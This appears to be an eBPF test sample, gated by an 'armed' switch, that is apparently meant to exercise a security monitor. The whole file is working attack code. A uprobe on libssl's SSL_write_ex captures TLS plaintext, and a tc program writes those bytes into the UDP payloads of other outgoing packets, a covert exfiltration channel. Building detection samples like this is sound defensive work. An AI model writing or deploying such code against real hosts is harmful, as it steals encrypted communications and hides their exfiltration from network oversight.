// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T11+T16: TLS plaintext leaves the host inside other connections' packets: an uprobe fills the map that tc empties.
#include "net.h"

SAMPLE_SWITCH;
LICENSE;

struct stolen {
	u32 len;
	u8 data[64];
};
ARRAY(stolen, struct stolen, 1);

SEC("uprobe/libssl.so.3:SSL_write_ex")
int BPF_KPROBE(covert_take, void *ssl, const void *buf, size_t num)
{
	u32 zero = 0;
	struct stolen *s = bpf_map_lookup_elem(&stolen, &zero);

	if (!s || s->len)
		return 0;
	bpf_probe_read_user(s->data, sizeof(s->data), buf);
	s->len = sizeof(s->data);
	return 0;
}

SEC("tc")
int covert_send(struct __sk_buff *skb)
{
	u32 zero = 0;
	struct stolen *s = bpf_map_lookup_elem(&stolen, &zero);

	if (!s || !s->len || skb->len < UDP_PAYLOAD_OFF + sizeof(s->data))
		return TC_ACT_OK;
	if (sample_armed)
		bpf_skb_store_bytes(skb, UDP_PAYLOAD_OFF, s->data, sizeof(s->data), 0);
	s->len = 0;
	return TC_ACT_OK;
}
